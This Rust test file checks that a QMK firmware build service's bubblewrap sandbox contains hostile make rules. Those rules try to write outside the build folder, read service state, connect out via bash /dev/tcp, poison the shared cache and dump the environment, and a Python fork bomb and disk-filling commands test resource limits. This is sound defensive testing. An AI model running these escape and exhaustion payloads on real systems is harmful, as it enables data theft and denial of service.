//! Firmware builds run in a sandbox: a tree whose make files run commands of their own
//! (as a keymap's injected `config` would make QMK's make run them) tries to write
//! outside its build folder, read the service's state, reach the network, plant
//! entries in the cache other builds read, and read the service's environment. Built
//! with `--no-sandbox`, the same tree does all of it (the test can tell); in the
//! sandbox, none of it.
//!
//! Needs `make` and bubblewrap (`bwrap`); `.ci/run` installs both, and under CI a
//! missing one is an error rather than a skip.

mod common;

use std::io::Read;
use std::net::TcpListener;
use std::path::Path;
use std::time::Duration;

use common::firmware::on_path;
use common::server::{Server, fake_qmk_tree};
use serde_json::{Value, json};

/// In the service's environment, never in a build's.
const SECRET: &str = "QMK_API_TEST_SECRET";
const SECRET_VALUE: &str = "s3cr3t-database-password";

/// What the hostile make file manages to do, as the test sees it afterwards.
#[derive(Debug, PartialEq, Eq)]
struct Escapes {
    wrote_outside: bool,
    read_state: bool,
    reached_network: bool,
    wrote_tree: bool,
    planted_in_cache: bool,
    read_environment: bool,
    saw_other_processes: bool,
}

impl Escapes {
    const NONE: Escapes = Escapes {
        wrote_outside: false,
        read_state: false,
        reached_network: false,
        wrote_tree: false,
        planted_in_cache: false,
        read_environment: false,
        saw_other_processes: false,
    };
}

fn ready() -> bool {
    let missing: Vec<&str> = ["make", "bwrap", "bash"].into_iter().filter(|p| !on_path(p)).collect();
    if missing.is_empty() {
        return true;
    }
    assert!(std::env::var("CI").is_err(), "CI installs bubblewrap and make, yet {missing:?} is missing");
    eprintln!("skipped: {missing:?} not on PATH (`.ci/run` installs bubblewrap)");
    false
}

/// A stand-in tree whose build rules, as make reads them for the keymap `hostile`, run
/// the attacks with `$(shell ...)`, as code injected by that keymap would; then build as
/// the stand-in does. The service's own builds of the tree (its reference builds) run
/// none of it.
fn hostile_tree(outside: &Path, state: &Path, port: u16) -> tempfile::TempDir {
    let tree = fake_qmk_tree();
    let rules = tree.path().join("builddefs/build_keyboard.mk");
    let stand_in = std::fs::read_to_string(&rules).unwrap();
    let (outside, state, home) = (outside.display(), state.display(), tree.path().display());
    let attacks = format!(
        "\
ifeq ($(KEYMAP),hostile)
$(shell echo escaped > {outside}/escaped)
$(info state: $(shell head -c 15 {state}/jobs.sqlite))
$(shell bash -c 'echo pwned > /dev/tcp/127.0.0.1/{port}')
$(shell echo planted > {home}/planted)
$(shell mkdir -p $$QMK_API_CACHE/planted $$QMK_API_STAGING/planted)
$(info environment: $(shell env))
$(info processes: $(shell ls /proc | grep -c '^[0-9]'))
endif
"
    );
    std::fs::write(&rules, attacks + &stand_in).unwrap();
    tree
}

/// Builds a keymap with the hostile tree and reports what got through.
fn attack(extra_args: &[&str]) -> (Escapes, Value) {
    let (outside, state) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let tree = hostile_tree(outside.path(), state.path(), listener.local_addr().unwrap().port());
    let home = tree.path().display().to_string();
    let args: Vec<&str> = ["--qmk-home", home.as_str(), "--workers", "1"].iter().chain(extra_args).copied().collect();
    let server = Server::start(state.path(), &args, &[(SECRET, SECRET_VALUE)]);
    let keymap = json!({
        "keyboard": "clueboard/66/rev2", "keymap": "hostile", "layout": "LAYOUT_all", "layers": [common::layer("KC_A")]
    });
    let id = server.submit(&keymap);
    let job = server.wait_within(&id, &["finished", "failed"], Duration::from_secs(120));
    // A later job publishes what earlier builds kept (the cache's planted entries, if any).
    let later = server.submit(&json!({
        "keyboard": "clueboard/66/rev2", "keymap": "later", "layout": "LAYOUT_all", "layers": [common::layer("KC_B")]
    }));
    server.wait_within(&later, &["finished", "failed"], Duration::from_secs(120));
    let output = job["result"]["output"].as_str().unwrap_or_default().to_owned();
    let mut message = String::new();
    let reached_network = match listener.accept() {
        Ok((mut connection, _)) => {
            connection.set_nonblocking(false).unwrap();
            connection.read_to_string(&mut message).unwrap();
            message.contains("pwned")
        }
        Err(error) => {
            assert_eq!(error.kind(), std::io::ErrorKind::WouldBlock);
            false
        }
    };
    let planted_in_cache = walkdir::WalkDir::new(state.path().join("cache"))
        .into_iter()
        .filter_map(Result::ok)
        .any(|entry| entry.file_name() == "planted");
    let processes: usize = output
        .lines()
        .find_map(|line| line.strip_prefix("processes: "))
        .and_then(|count| count.trim().parse().ok())
        .unwrap_or(0);
    let escapes = Escapes {
        wrote_outside: outside.path().join("escaped").exists(),
        read_state: output.contains("state: SQLite format"),
        reached_network,
        wrote_tree: tree.path().join("planted").exists(),
        planted_in_cache,
        read_environment: output.contains(SECRET_VALUE),
        // The service's own threads and processes: more than a build's handful.
        saw_other_processes: processes > 20,
    };
    (escapes, job)
}

#[test]
fn a_build_that_runs_code_of_its_own_stays_in_its_sandbox() {
    if !ready() {
        return;
    }
    let (escapes, job) = attack(&[]);
    assert_eq!(job["status"], "finished", "the build itself still works: {job:#}");
    assert_eq!(escapes, Escapes::NONE, "{}", job["result"]["output"]);
}

#[test]
fn without_the_sandbox_the_same_build_gets_out() {
    if !ready() {
        return;
    }
    let (escapes, job) = attack(&["--no-sandbox"]);
    assert_eq!(job["status"], "finished", "{job:#}");
    let expected = Escapes {
        wrote_outside: true,
        read_state: true,
        reached_network: true,
        wrote_tree: true,
        // Nothing stops it writing into the cache; only the service's environment stays
        // out of its reach, as the build is given a few of its variables only.
        planted_in_cache: true,
        read_environment: false,
        saw_other_processes: true,
    };
    assert_eq!(escapes, expected, "{}", job["result"]["output"]);
}

#[test]
fn a_build_is_bounded_in_file_size_disk_and_processes_and_starves_no_other_build() {
    if !ready() {
        return;
    }
    // The system's interpreter, which the sandbox's read-only /usr holds: a `python3`
    // found first on PATH may be a shim (pyenv) that needs folders the sandbox hides.
    let python = Path::new("/usr/bin/python3");
    if !python.is_file() {
        eprintln!("skipped: {} is absent (Debian's python3 package)", python.display());
        return;
    }
    let state = tempfile::tempdir().unwrap();
    let tree = fake_qmk_tree();
    let rules = tree.path().join("builddefs/build_keyboard.mk");
    let stand_in = std::fs::read_to_string(&rules).unwrap();
    // A file past the size limit; the build's folder filled past its size; and a process
    // for each of 2000 sleeps, left running while another build runs and after its own
    // build stops.
    let attacks = r#"
define FORK_BOMB
import os, time
children = []
try:
    while len(children) < 2000:
        pid = os.fork()
        if pid == 0:
            os.close(1)
            os.close(2)
            time.sleep(120)
            os._exit(0)
        children.append(pid)
except OSError:
    pass
print(len(children))
time.sleep(5)
endef
ifeq ($(KEYMAP),greedy)
$(info file: $(shell head -c 600M /dev/zero > /build/big; echo $$?; stat -c %s /build/big; rm /build/big))
$(info disk: $(shell for n in 1 2 3 4 5; do head -c 500M /dev/zero > /build/fill$$n || break; done; du -sm /build | cut -f1; rm /build/fill*))
$(file >/build/bomb.py,$(FORK_BOMB))
$(info processes: $(shell /usr/bin/python3 /build/bomb.py))
endif
"#;
    std::fs::write(&rules, attacks.to_owned() + &stand_in).unwrap();
    let home = tree.path().display().to_string();
    let server = Server::start(state.path(), &["--qmk-home", &home, "--workers", "2"], &[]);
    let keymap = |name: &str| json!({"keyboard": "clueboard/66/rev2", "keymap": name, "layout": "LAYOUT_all", "layers": [common::layer("KC_A")]});
    let id = server.submit(&keymap("greedy"));
    std::thread::sleep(Duration::from_secs(2));
    let beside = server.submit(&keymap("beside"));
    let job = server.wait_within(&beside, &["finished", "failed"], Duration::from_secs(300));
    assert_eq!(job["status"], "finished", "a build beside the greedy one has processes of its own: {job:#}");
    let job = server.wait_within(&id, &["finished", "failed"], Duration::from_secs(300));
    let output = job["result"]["output"].as_str().unwrap().to_owned();
    let value = |name: &str| -> Vec<u64> {
        let line = output.lines().find_map(|line| line.strip_prefix(name)).unwrap_or_else(|| panic!("{output}"));
        eprintln!("{name}{line}");
        line.split_whitespace().filter_map(|word| word.parse().ok()).collect()
    };
    let file = value("file: ");
    assert_eq!(file[0], 128 + 25, "head was stopped by SIGXFSZ: {output}");
    assert_eq!(file[1], 512 << 20, "at 512 MiB");
    let disk = value("disk: ")[0];
    assert!((1900..=2048).contains(&disk), "the build's folder holds 2 GiB at most, it held {disk} MiB");
    let processes = value("processes: ")[0];
    assert!((900..1024).contains(&processes), "{processes} processes started of 2000");
    assert_eq!(job["status"], "finished", "the build goes on, one process at a time: {output}");
    // The kernel ends the sandbox's processes with it; they may take a moment to go.
    let running = || std::process::Command::new("pgrep").args(["-f", "/build/bomb.py"]).output().unwrap().stdout;
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while !running().is_empty() {
        assert!(std::time::Instant::now() < deadline, "the build's processes outlived it");
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn where_no_sandbox_can_be_made_firmware_builds_are_refused_and_the_service_says_so() {
    if !ready() {
        return;
    }
    // A PATH with what a stand-in build needs, but no bubblewrap.
    let (state, bin) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    for program in ["make", "sh", "echo", "sleep", "mkdir", "cp"] {
        let found = common::firmware::which(program).unwrap();
        std::os::unix::fs::symlink(found, bin.path().join(program)).unwrap();
    }
    let tree = fake_qmk_tree();
    let home = tree.path().display().to_string();
    let path = bin.path().display().to_string();
    let server = Server::start(state.path(), &["--qmk-home", &home, "--workers", "1"], &[("PATH", &path)]);
    assert_eq!(server.get("/v1").json()["containment"], "unavailable");
    assert!(
        server.log().contains("firmware builds are refused: bubblewrap (`bwrap`) is not on PATH"),
        "{}",
        server.log()
    );
    let keymap = json!({
        "keyboard": "clueboard/66/rev2", "keymap": "mine", "layout": "LAYOUT_all", "layers": [common::layer("KC_A")]
    });
    let job = server.wait_within(&server.submit(&keymap), &["finished", "failed"], Duration::from_secs(60));
    assert_eq!(job["status"], "failed");
    let output = job["result"]["output"].as_str().unwrap();
    assert!(output.contains("builds no firmware: bubblewrap (`bwrap`) is not on PATH"), "{output}");
    assert!(output.contains("--no-sandbox") && !output.contains("building"), "{output}");
    drop(server);

    let trusted = tempfile::tempdir().unwrap();
    let server =
        Server::start(trusted.path(), &["--qmk-home", &home, "--workers", "1", "--no-sandbox"], &[("PATH", &path)]);
    assert_eq!(server.get("/v1").json()["containment"], "none");
    assert!(server.log().contains("firmware builds run WITHOUT a sandbox"), "{}", server.log());
    let job = server.wait_within(&server.submit(&keymap), &["finished", "failed"], Duration::from_secs(60));
    assert_eq!(job["status"], "finished", "{job:#}");
}
